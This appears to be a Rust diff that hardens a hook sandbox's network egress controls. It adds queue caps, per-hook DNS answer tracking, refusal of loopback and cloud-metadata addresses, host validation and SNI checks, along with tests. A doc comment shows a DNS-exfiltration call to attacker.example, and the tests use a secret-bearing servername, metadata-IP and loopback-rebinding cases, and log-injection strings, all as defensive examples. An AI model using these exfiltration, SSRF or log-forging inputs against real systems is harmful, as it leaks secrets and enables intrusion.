@@ -10,10 +10,14 @@
 //! redirection map apply to every connect exactly as to HTTP (a name the redirection map knows
 //! connects to its target; a forbidden host gets `ERR_HOOKGATE_EGRESS`, and nothing is
 //! connected), and to lookups (a DNS query for a forbidden name is refused too: the query itself
-//! would carry data out, `dns.lookup(secret + '.attacker.example')`). An address a lookup of an
-//! allowed name returned is allowed to connect to (a mailer resolves the host itself, then
-//! connects to the IP); a name in the redirection map resolves to an address of its own in
-//! 198.18.0.0/15 (RFC 2544's benchmarking range, never routed) that connects to its target. A
+//! would carry data out, `dns.lookup(secret + '.attacker.example')`), and so does a TLS
+//! `servername` (SNI is sent in clear). An address a hook's lookup of an allowed name returned
+//! is allowed to connect to by that hook for [`RESOLVED_TTL`] (a mailer resolves the host itself,
+//! then connects to the IP) — never a loopback, link-local or unspecified one unless listed
+//! exactly ([`is_internal`]); a name in the redirection map resolves to an address of its own in
+//! 198.18.0.0/15 (RFC 2544's benchmarking range, never routed) that connects to its target. What
+//! a hook can make the host hold is bounded: [`MAX_LOOKUPS`] lookups in the process, a call slot
+//! per lookup, [`MAX_QUEUED_BYTES`] / [`MAX_QUEUED_OPS`] queued per socket (ENOBUFS past them). A
 //! socket takes one of its call's outbound slots and one of the process's (`max_concurrent`)
 //! while it is open — refused at once when none is free, as Node's EMFILE is, rather than waiting:
 //! sockets are long-lived — and is closed at its call's deadline, or when its call ends (the
@@ -22,7 +26,7 @@
 //! Must not touch: JS values (the worker hands events to `io.js`), or the call's lifecycle
 //! (`worker.rs` decides when a call ends and drops its sockets).
 
-use std::collections::HashSet;
+use std::collections::HashMap;
 use std::net::{IpAddr, Ipv4Addr, SocketAddr};
 use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex, OnceLock};
@@ -42,8 +46,21 @@ const READ_CHUNK: usize = 64 << 10;
 /// Bytes read but not yet handed to JS past which a socket stops reading (the server may send
 /// faster than the hook consumes; TCP's own window then slows it down).
 const MAX_UNDELIVERED: usize = 1 << 20;
-/// Addresses remembered as resolved from allowed names; past this the memory starts over.
+/// Bytes a socket may have handed to it and not yet written; a write past it (when something is
+/// queued already) fails the socket with ENOBUFS. A hook's stream writes one chunk at a time, so
+/// only a peer that does not read (or a hook calling the natives in a loop) gets here.
+const MAX_QUEUED_BYTES: usize = 4 << 20;
+/// Operations a socket may have queued; past it the socket fails with ENOBUFS.
+const MAX_QUEUED_OPS: usize = 1024;
+/// Lookups waiting for the system's resolver at once, for the whole process; one more fails at
+/// once with `EAI_AGAIN` (see [`lookup`]).
+pub(crate) const MAX_LOOKUPS: usize = 32;
+/// Addresses remembered as resolved from allowed names; past this the expired ones are dropped,
+/// and if that is not enough the memory starts over.
 const MAX_RESOLVED: usize = 4096;
+/// How long an address a lookup returned may be connected to: about what resolvers' caches and
+/// mailers' keep (nodemailer caches 5 minutes).
+const RESOLVED_TTL: Duration = Duration::from_secs(600);
 
 /// What the worker asks of a socket.
 pub(crate) enum Op {
@@ -116,7 +133,12 @@ pub(crate) enum Kind {
 
 /// The worker's side of a socket or lookup in progress. Dropping it closes the socket.
 pub(crate) struct Handle {
-    ops: Option<mpsc::UnboundedSender<Op>>,
+    ops: Option<mpsc::Sender<Op>>,
+    /// Bytes of writes sent to the task and not yet written (shared with the task).
+    queued: Arc<AtomicUsize>,
+    /// Where the handle reports an overflow itself (the task's events), and whether it did.
+    events: Option<(Sender<Event>, u64, u64)>,
+    overflowed: std::sync::atomic::AtomicBool,
     task: Option<tokio::task::AbortHandle>,
     /// Keeps its call alive (Node's `ref`, the default); `unref()` clears it.
     pub keep: bool,
@@ -132,6 +154,9 @@ impl Handle {
     fn finished() -> Handle {
         Handle {
             ops: None,
+            queued: Arc::default(),
+            events: None,
+            overflowed: Default::default(),
             task: None,
             keep: true,
             credit: None,
@@ -149,9 +174,51 @@ impl Handle {
         }
     }
 
+    /// Hand the socket an operation. Past [`MAX_QUEUED_BYTES`] of writes or [`MAX_QUEUED_OPS`]
+    /// operations queued, the socket fails with ENOBUFS (error, then close) and is closed: the
+    /// host's memory is not the hook's to fill.
     pub fn send(&self, op: Op) {
-        if let Some(ops) = &self.ops {
-            let _ = ops.send(op);
+        let Some(ops) = &self.ops else { return };
+        if self.overflowed.load(Ordering::Acquire) {
+            return;
+        }
+        let len = match &op {
+            Op::Write(_, bytes) => bytes.len(),
+            _ => 0,
+        };
+        let before = self.queued.fetch_add(len, Ordering::AcqRel);
+        let over = before > 0 && before + len > MAX_QUEUED_BYTES;
+        let full = over || matches!(ops.try_send(op), Err(mpsc::error::TrySendError::Full(_)));
+        if !full {
+            return;
+        }
+        self.queued.fetch_sub(len, Ordering::AcqRel);
+        self.overflowed.store(true, Ordering::Release);
+        let why = if over {
+            format!("more than {} MiB of writes queued", MAX_QUEUED_BYTES >> 20)
+        } else {
+            format!("more than {MAX_QUEUED_OPS} operations queued")
+        };
+        if let Some(ended) = &self.ended {
+            ended
+                .lock()
+                .unwrap_or_else(|e| e.into_inner())
+                .get_or_insert_with(|| format!("ENOBUFS: {why}"));
+        }
+        if let Some(task) = &self.task {
+            task.abort();
+        }
+        if let Some((events, seq, id)) = &self.events {
+            let f = Failure {
+                code: "ENOBUFS",
+                message: "write ENOBUFS".into(),
+                errno: Some(-105),
+                syscall: Some("write"),
+                detail: Some(format!("the socket has {why} (the peer is not reading)")),
+                ..Failure::default()
+            };
+            send(events, *seq, *id, Kind::Failed(f));
+            send(events, *seq, *id, Kind::Closed);
         }
     }
 
@@ -189,23 +256,54 @@ pub(crate) struct Caller<'a> {
     pub timeout: Duration,
 }
 
-/// The addresses lookups of allowed names returned (shared by the workers of one engine).
+/// The addresses lookups of allowed names returned, per hook (shared by the workers of one
+/// engine): a hook may connect to an address its own lookup of an allowed name returned, for
+/// [`RESOLVED_TTL`], and the name is checked against the allow-list again on connect (it may have
+/// changed). Another hook's lookups open nothing for it.
 #[derive(Default)]
-pub(crate) struct Resolved(Mutex<HashSet<IpAddr>>);
+pub(crate) struct Resolved(Mutex<HashMap<(String, IpAddr), (String, Instant)>>);
 
 impl Resolved {
-    fn remember(&self, ips: impl IntoIterator<Item = IpAddr>) {
-        let mut set = self.0.lock().unwrap_or_else(|e| e.into_inner());
-        if set.len() > MAX_RESOLVED {
-            set.clear();
+    fn remember(&self, hook: &str, name: &str, ips: impl IntoIterator<Item = IpAddr>) {
+        let mut map = self.0.lock().unwrap_or_else(|e| e.into_inner());
+        let now = Instant::now();
+        if map.len() > MAX_RESOLVED {
+            map.retain(|_, (_, until)| *until > now);
+            if map.len() > MAX_RESOLVED {
+                map.clear();
+            }
         }
-        set.extend(ips);
+        for ip in ips {
+            map.insert((hook.to_owned(), ip), (name.to_owned(), now + RESOLVED_TTL));
+        }
     }
-    pub(crate) fn contains(&self, ip: &IpAddr) -> bool {
-        self.0
-            .lock()
-            .unwrap_or_else(|e| e.into_inner())
-            .contains(ip)
+
+    /// The name a lookup of `hook`'s resolved to `ip`, if it has not expired.
+    pub(crate) fn name_of(&self, hook: &str, ip: &IpAddr) -> Option<String> {
+        let map = self.0.lock().unwrap_or_else(|e| e.into_inner());
+        map.get(&(hook.to_owned(), *ip))
+            .filter(|(_, until)| *until > Instant::now())
+            .map(|(name, _)| name.clone())
+    }
+}
+
+/// Whether an address a lookup of `name` returned is answered (and may be connected to).
+fn admitted(policy: &Egress, name: &str, ip: &IpAddr) -> bool {
+    !is_internal(ip)
+        || policy.lists_exactly(name)
+        || policy.lists_exactly(&ip.to_string())
+        || policy.lists_exactly(&ip.to_canonical().to_string())
+}
+
+/// Loopback, link-local (169.254/16, fe80::/10: cloud metadata lives there) and unspecified
+/// addresses: a lookup's answer never opens them unless the allow-list names them or the name
+/// exactly (a wildcard's subdomain resolving to 127.0.0.1 is a way in, not a mail server).
+pub(crate) fn is_internal(ip: &IpAddr) -> bool {
+    match ip.to_canonical() {
+        IpAddr::V4(v4) => v4.is_loopback() || v4.is_link_local() || v4.is_unspecified(),
+        IpAddr::V6(v6) => {
+            v6.is_loopback() || v6.is_unspecified() || (v6.segments()[0] & 0xffc0) == 0xfe80
+        }
     }
 }
 
@@ -249,6 +347,40 @@ pub(crate) fn synthetic_index(ip: &IpAddr) -> Option<usize> {
     (n & 0x1ffff).checked_sub(1).map(|i| i as usize)
 }
 
+/// A host as a hook may name it: an IP literal (IPv6 with or without brackets) or a DNS name of
+/// letters, digits, hyphens, underscores (service names) and dots, at most 253 bytes. Checked
+/// before anything else, so what reaches the log, the resolver or an error is never a control
+/// character or a line of its own.
+pub(crate) fn valid_host(host: &str) -> bool {
+    let bare = host.trim_start_matches('[').trim_end_matches(']');
+    if bare.parse::<IpAddr>().is_ok() {
+        return true;
+    }
+    !host.is_empty()
+        && host.len() <= 253
+        && host
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.' || b == b'_')
+}
+
+/// Node's answer for a name that cannot be one (`getaddrinfo ENOTFOUND`), the name escaped.
+fn invalid_host(host: &str) -> Failure {
+    let shown: String = host
+        .chars()
+        .take(256)
+        .collect::<String>()
+        .escape_debug()
+        .to_string();
+    Failure {
+        code: "ENOTFOUND",
+        message: format!("getaddrinfo ENOTFOUND {shown}"),
+        errno: Some(-3008),
+        syscall: Some("getaddrinfo"),
+        peer: Some(shown),
+        ..Failure::default()
+    }
+}
+
 fn send(events: &Sender<Event>, seq: u64, id: u64, kind: Kind) {
     let _ = events.send(Event { seq, id, kind });
 }
@@ -288,7 +420,13 @@ pub(crate) fn connect(
         send(&events, seq, id, Kind::Closed);
         Handle::finished()
     };
-    let wire = match egress.socket_target(&host, port) {
+    if !valid_host(&host) {
+        tracing::warn!(target: "hookgate::egress", hook = %hook, host = ?host, port, "socket refused: not a host name");
+        send(&events, seq, id, Kind::Failed(invalid_host(&host)));
+        send(&events, seq, id, Kind::Closed);
+        return Handle::finished();
+    }
+    let wire = match egress.socket_target(hook, &host, port) {
         Ok(w) => w,
         Err(f) => return fail(f),
     };
@@ -314,7 +452,8 @@ pub(crate) fn connect(
             port,
         ));
     };
-    let (ops_tx, ops_rx) = mpsc::unbounded_channel();
+    let (ops_tx, ops_rx) = mpsc::channel(MAX_QUEUED_OPS);
+    let queued: Arc<AtomicUsize> = Arc::default();
     let credit = Arc::new(Credit {
         undelivered: AtomicUsize::new(0),
         notify: Notify::new(),
@@ -333,16 +472,19 @@ pub(crate) fn connect(
         written: AtomicU64::new(0),
         ended: ended.clone(),
     };
+    let reports = (events.clone(), seq, id);
     let task = Task {
         seq,
         id,
         named: host,
         port,
         wire,
+        queued: queued.clone(),
         events,
         credit: credit.clone(),
         log,
         _slots: (call_slot, permit),
+        policy: egress.clone(),
     };
     let join = handle.spawn(async move {
         let outcome = tokio::time::timeout(timeout, task.run(tls, ops_rx)).await;
@@ -364,6 +506,9 @@ pub(crate) fn connect(
     });
     Handle {
         ops: Some(ops_tx),
+        queued,
+        events: Some(reports),
+        overflowed: Default::default(),
         task: Some(join.abort_handle()),
         keep: true,
         credit: Some(credit),
@@ -384,6 +529,10 @@ pub(crate) fn lookup(
         send(&events, seq, id, Kind::Resolved(r));
         Handle::finished()
     };
+    if !valid_host(&host) {
+        tracing::warn!(target: "hookgate::egress", hook = %call.hook, host = ?host, "lookup refused: not a host name");
+        return answer(Err(invalid_host(&host)));
+    }
     let bare = host.trim_start_matches('[').trim_end_matches(']');
     if let Ok(ip) = bare.parse::<IpAddr>() {
         let family = if ip.is_ipv4() { 4 } else { 6 };
@@ -418,17 +567,55 @@ pub(crate) fn lookup(
             ..Failure::default()
         }));
     };
+    let Some(permits) = egress.lookup_permits() else {
+        return answer(Err(super::egress::forbidden(&name)));
+    };
     let resolved = egress.resolved();
-    let timeout = call.timeout;
+    let (timeout, slots) = (call.timeout, call.slots);
+    let hook = call.hook.to_owned();
+    let policy = egress.clone();
     let join = handle.spawn(async move {
-        let found =
-            tokio::time::timeout(timeout, tokio::net::lookup_host((host.as_str(), 0))).await;
+        let run = async {
+            // The call's own slot first, waited for as a request waits (`[hooks]
+            // max_requests_per_call`); held by this task only, so a lookup abandoned when its
+            // call ends (the task is aborted) frees it at once.
+            let _call_slot = slots.acquire_owned().await.ok();
+            // Then one of the process's lookups, at once or not at all: the resolver call cannot
+            // be cancelled, so its permit goes with it to the blocking pool and is released
+            // only when getaddrinfo returns.
+            let Ok(permit) = permits.try_acquire_owned() else {
+                tracing::warn!(target: "hookgate::egress", hook = %hook, host = %host,
+                    "lookup refused: {MAX_LOOKUPS} lookups are already waiting for the resolver");
+                return Err(busy(query, &host));
+            };
+            let name = host.clone();
+            tokio::task::spawn_blocking(move || {
+                let _permit = permit;
+                std::net::ToSocketAddrs::to_socket_addrs(&(name.as_str(), 0))
+                    .map(|a| a.collect::<Vec<_>>())
+            })
+            .await
+            .map_err(|_| busy(query, &host))
+        };
+        let found = match tokio::time::timeout(timeout, run).await {
+            Ok(Err(f)) => {
+                send(&events, seq, id, Kind::Resolved(Err(f)));
+                return;
+            }
+            Ok(Ok(r)) => Ok(r),
+            Err(e) => Err(e),
+        };
         let result = match found {
             Ok(Ok(addrs)) => {
                 let mut out: Vec<(String, u8)> = Vec::new();
                 let mut ips = Vec::new();
+                let mut refused = None;
                 for a in addrs {
                     let ip = a.ip();
+                    if !admitted(&policy, &name, &ip) {
+                        refused = Some(ip);
+                        continue;
+                    }
                     let family = if ip.is_ipv4() { 4 } else { 6 };
                     let keep = match query {
                         Query::Lookup(f) => f == 0 || f == family,
@@ -441,8 +628,16 @@ pub(crate) fn lookup(
                         out.push((text, family));
                     }
                 }
-                resolved.remember(ips);
-                if out.is_empty() {
+                resolved.remember(&hook, &name, ips);
+                if let (true, Some(ip)) = (out.is_empty(), refused) {
+                    tracing::warn!(target: "hookgate::egress", hook = %hook, host = %name, %ip,
+                        "lookup refused: the name resolves to a loopback, link-local or unspecified address");
+                    Err(Failure {
+                        code: "ERR_HOOKGATE_EGRESS",
+                        message: format!("host `{name}` resolves to {ip}, which hookgate does not connect to unless [hooks.egress] allow_hosts lists the name or the address itself"),
+                        ..Failure::default()
+                    })
+                } else if out.is_empty() {
                     Err(no_data(query, &host))
                 } else {
                     Ok(out)
@@ -461,6 +656,9 @@ pub(crate) fn lookup(
     });
     Handle {
         ops: None,
+        queued: Arc::default(),
+        events: None,
+        overflowed: Default::default(),
         task: Some(join.abort_handle()),
         keep: true,
         credit: None,
@@ -473,6 +671,26 @@ fn syscall_of(query: Query) -> &'static str {
         Query::Lookup(_) => "getaddrinfo",
         Query::Resolve4 => "queryA",
         Query::Resolve6 => "queryAaaa",
+    }
+}
+
+/// Node's answer when the resolver is busy (the process's [`MAX_LOOKUPS`] are all waiting on it):
+/// `EAI_AGAIN` for `lookup`, `ETIMEOUT` for `resolve*`, as when a DNS server does not answer.
+fn busy(query: Query, host: &str) -> Failure {
+    let (code, errno) = match query {
+        Query::Lookup(_) => ("EAI_AGAIN", Some(-3001)),
+        _ => ("ETIMEOUT", None),
+    };
+    Failure {
+        code,
+        message: format!("{} {code} {host}", syscall_of(query)),
+        errno,
+        syscall: Some(syscall_of(query)),
+        peer: Some(host.to_owned()),
+        detail: Some(format!(
+            "hookgate allows {MAX_LOOKUPS} lookups waiting for the resolver at once"
+        )),
+        ..Failure::default()
     }
 }
 
@@ -563,10 +781,14 @@ struct Task {
     named: String,
     port: u16,
     wire: Wire,
+    /// Bytes of writes queued for it ([`Handle::send`] counts them in, the task out).
+    queued: Arc<AtomicUsize>,
     events: Sender<Event>,
     credit: Arc<Credit>,
     log: Log,
     _slots: (OwnedSemaphorePermit, OwnedSemaphorePermit),
+    /// The allow-list, for the `servername` of a TLS handshake.
+    policy: Egress,
 }
 
 enum Stream {
@@ -610,7 +832,7 @@ impl Task {
     async fn run(
         &self,
         tls: Option<TlsOptions>,
-        mut ops: mpsc::UnboundedReceiver<Op>,
+        mut ops: mpsc::Receiver<Op>,
     ) -> Result<(), Failure> {
         let tcp = TcpStream::connect((self.wire.host.as_str(), self.wire.port))
             .await
@@ -633,7 +855,9 @@ impl Task {
                     let Some(op) = op else { return Ok(()) }; // destroyed
                     match op {
                         Op::Write(wid, bytes) => {
-                            if let Err(e) = stream.write_all(&bytes).await {
+                            let written = stream.write_all(&bytes).await;
+                            self.queued.fetch_sub(bytes.len(), Ordering::AcqRel);
+                            if let Err(e) = written {
                                 return Err(io_failure(&e, "write"));
                             }
                             self.log.written.fetch_add(bytes.len() as u64, Ordering::Relaxed);
@@ -697,9 +921,14 @@ impl Task {
             });
         let server_name = ServerName::try_from(name.clone()).map_err(|_| Failure {
             code: "ERR_INVALID_ARG_VALUE",
-            message: format!("invalid servername `{name}`"),
+            message: format!("invalid servername {name:?}"),
             ..Failure::default()
         })?;
+        // SNI goes out in clear, to the peer and everyone on the path: a servername the hook
+        // chose is held to the allow-list as a host it names is (an address sends none).
+        if matches!(server_name, ServerName::DnsName(_)) && !self.policy.allows(&name) {
+            return Err(super::egress::forbidden(&name));
+        }
         let (config, recorder) = client_config(&opts)?;
         let connector = tokio_rustls::TlsConnector::from(config);
         let tls = connector
@@ -970,5 +1199,247 @@ mod tests {
         }
         assert_eq!(synthetic_index(&"198.20.0.1".parse().unwrap()), None);
         assert_eq!(synthetic_index(&"127.0.0.1".parse().unwrap()), None);
+    }
+
+    fn runtime() -> tokio::runtime::Runtime {
+        tokio::runtime::Builder::new_multi_thread()
+            .worker_threads(1)
+            .enable_all()
+            .build()
+            .unwrap()
+    }
+
+    fn egress(rt: &tokio::runtime::Runtime, toml: &str) -> Egress {
+        let cfg: crate::config::EgressConfig = toml::from_str(toml).unwrap();
+        Egress::new(&cfg, rt.handle().clone()).unwrap()
+    }
+
+    fn caller(slots: usize, timeout: Duration) -> Caller<'static> {
+        Caller {
+            hook: "test",
+            seq: 1,
+            id: 1,
+            slots: Arc::new(Semaphore::new(slots)),
+            timeout,
+        }
+    }
+
+    fn answer(rx: &crossbeam_channel::Receiver<Event>) -> Result<Vec<(String, u8)>, Failure> {
+        match rx
+            .recv_timeout(Duration::from_secs(20))
+            .expect("an answer")
+            .kind
+        {
+            Kind::Resolved(r) => r,
+            _ => panic!("not a lookup's answer"),
+        }
+    }
+
+    #[test]
+    fn a_lookup_fails_at_once_with_eai_again_when_the_process_has_all_its_lookups_waiting() {
+        let rt = runtime();
+        let egress = egress(&rt, "");
+        let permits = egress.lookup_permits().unwrap();
+        let _held: Vec<_> = (0..MAX_LOOKUPS)
+            .map(|_| permits.clone().try_acquire_owned().unwrap())
+            .collect();
+        let (tx, rx) = crossbeam_channel::unbounded();
+        let caller = caller(4, Duration::from_secs(20));
+        let _h = lookup(&egress, caller, "localhost".into(), Query::Lookup(0), tx);
+        let f = answer(&rx).expect_err("refused while the resolver is busy");
+        assert_eq!((f.code, f.syscall), ("EAI_AGAIN", Some("getaddrinfo")));
+    }
+
+    #[test]
+    fn a_lookup_takes_one_of_its_calls_outbound_slots_and_waits_for_one() {
+        let rt = runtime();
+        let egress = egress(&rt, "");
+        let (tx, rx) = crossbeam_channel::unbounded();
+        // No slot free: the lookup waits for one until the call's deadline.
+        let caller = caller(0, Duration::from_millis(200));
+        let _h = lookup(&egress, caller, "localhost".into(), Query::Lookup(0), tx);
+        let f = answer(&rx).expect_err("no slot, no lookup");
+        assert_eq!(f.code, "ETIMEOUT");
+    }
+
+    #[test]
+    fn writes_to_a_peer_that_does_not_read_fail_with_enobufs_past_the_queue_cap() {
+        let rt = runtime();
+        let egress = egress(&rt, "");
+        // A peer that accepts and never reads.
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let keep = std::thread::spawn(move || {
+            let conn = listener.accept();
+            std::thread::sleep(Duration::from_secs(10));
+            drop(conn);
+        });
+        let (tx, rx) = crossbeam_channel::unbounded();
+        let caller = caller(4, Duration::from_secs(20));
+        let h = connect(&egress, caller, "127.0.0.1".into(), port, None, tx);
+        assert!(matches!(
+            rx.recv_timeout(Duration::from_secs(10)).unwrap().kind,
+            Kind::Connected(_)
+        ));
+        // 64 MiB at once: far more than the kernel buffers take.
+        for i in 0..64 {
+            h.send(Op::Write(i, vec![b'x'; 1 << 20]));
+        }
+        let failure = loop {
+            match rx
+                .recv_timeout(Duration::from_secs(10))
+                .expect("an event")
+                .kind
+            {
+                Kind::Failed(f) => break f,
+                Kind::Closed => panic!("closed without an error"),
+                _ => {}
+            }
+        };
+        assert_eq!(failure.code, "ENOBUFS");
+        assert!(h.queued.load(Ordering::Acquire) <= MAX_QUEUED_BYTES + (1 << 20));
+        drop(h);
+        drop(keep);
+    }
+
+    #[test]
+    fn a_lookup_answer_of_loopback_link_local_or_unspecified_is_refused_unless_listed_exactly() {
+        let rt = runtime();
+        let wild = egress(&rt, "allow_hosts = [\"*.example.com\"]");
+        for ip in [
+            "127.0.0.1",
+            "127.1.2.3",
+            "169.254.169.254",
+            "0.0.0.0",
+            "::1",
+            "::",
+            "fe80::1",
+            "::ffff:127.0.0.1",
+        ] {
+            let ip: IpAddr = ip.parse().unwrap();
+            assert!(!admitted(&wild, "evil.example.com", &ip), "{ip}");
+        }
+        for ip in ["10.0.0.1", "93.184.216.34", "2001:db8::1"] {
+            assert!(
+                admitted(&wild, "evil.example.com", &ip.parse().unwrap()),
+                "{ip}"
+            );
+        }
+        let listed = egress(
+            &rt,
+            "allow_hosts = [\"*.example.com\", \"169.254.169.254\", \"db.example.com\"]",
+        );
+        assert!(admitted(
+            &listed,
+            "meta.example.com",
+            &"169.254.169.254".parse().unwrap()
+        ));
+        assert!(admitted(
+            &listed,
+            "db.example.com",
+            &"127.0.0.1".parse().unwrap()
+        ));
+        assert!(!admitted(
+            &listed,
+            "evil.example.com",
+            &"127.0.0.1".parse().unwrap()
+        ));
+        let open = egress(&rt, "");
+        assert!(admitted(&open, "anything", &"127.0.0.1".parse().unwrap()));
+    }
+
+    #[test]
+    fn an_address_a_lookup_returned_opens_to_the_hook_that_looked_it_up_only() {
+        let rt = runtime();
+        let egress = egress(&rt, "allow_hosts = [\"localhost\"]");
+        let (tx, rx) = crossbeam_channel::unbounded();
+        let mut c = caller(4, Duration::from_secs(20));
+        c.hook = "a";
+        let _h = lookup(&egress, c, "localhost".into(), Query::Lookup(4), tx);
+        let addrs = answer(&rx).expect("localhost resolves");
+        let ip = addrs[0].0.clone();
+        assert!(egress.socket_target("a", &ip, 6379).is_ok(), "{ip}");
+        let other = egress
+            .socket_target("b", &ip, 6379)
+            .expect_err("another hook");
+        assert_eq!(other.code, "ERR_HOOKGATE_EGRESS");
+    }
+
+    #[test]
+    fn a_tls_servername_outside_allow_hosts_is_refused_before_it_is_sent() {
+        let rt = runtime();
+        let egress = egress(&rt, "allow_hosts = [\"127.0.0.1\"]");
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        std::thread::spawn(move || {
+            let conn = listener.accept();
+            std::thread::sleep(Duration::from_secs(5));
+            drop(conn);
+        });
+        let (tx, rx) = crossbeam_channel::unbounded();
+        let tls = TlsOptions {
+            servername: Some("secret-token.evil.example".into()),
+            ..TlsOptions::default()
+        };
+        let c = caller(4, Duration::from_secs(3));
+        let _h = connect(&egress, c, "127.0.0.1".into(), port, Some(tls), tx);
+        let failure = loop {
+            match rx
+                .recv_timeout(Duration::from_secs(10))
+                .expect("an event")
+                .kind
+            {
+                Kind::Failed(f) => break f,
+                Kind::Closed => panic!("closed without an error"),
+                _ => {}
+            }
+        };
+        assert_eq!(failure.code, "ERR_HOOKGATE_EGRESS", "{}", failure.message);
+    }
+
+    #[test]
+    fn a_host_that_is_not_a_name_fails_with_enotfound_and_its_control_characters_escaped() {
+        for ok in [
+            "redis.internal",
+            "smtp-1.example.com",
+            "redis_1",
+            "127.0.0.1",
+            "[::1]",
+            "::1",
+        ] {
+            assert!(valid_host(ok), "{ok}");
+        }
+        let long = "a".repeat(254);
+        for bad in [
+            "",
+            "a\nb",
+            "x\r\nINJECTED line",
+            "a b",
+            "a/b",
+            "é.example",
+            long.as_str(),
+        ] {
+            assert!(!valid_host(bad), "{bad:?}");
+        }
+        let rt = runtime();
+        let egress = egress(&rt, "");
+        let (tx, rx) = crossbeam_channel::unbounded();
+        let c = caller(4, Duration::from_secs(5));
+        let _h = lookup(
+            &egress,
+            c,
+            "x\nhookgate forged line".into(),
+            Query::Lookup(0),
+            tx.clone(),
+        );
+        let f = answer(&rx).expect_err("not a name");
+        assert_eq!(f.code, "ENOTFOUND");
+        assert!(!f.message.contains('\n'), "{:?}", f.message);
+        let c = caller(4, Duration::from_secs(5));
+        let _s = connect(&egress, c, "x\nforged".into(), 25, None, tx);
+        match rx.recv_timeout(Duration::from_secs(10)).unwrap().kind {
+            Kind::Failed(f) => assert!(f.code == "ENOTFOUND" && !f.message.contains('\n')),
+            _ => panic!("not refused"),
+        }
     }
 }
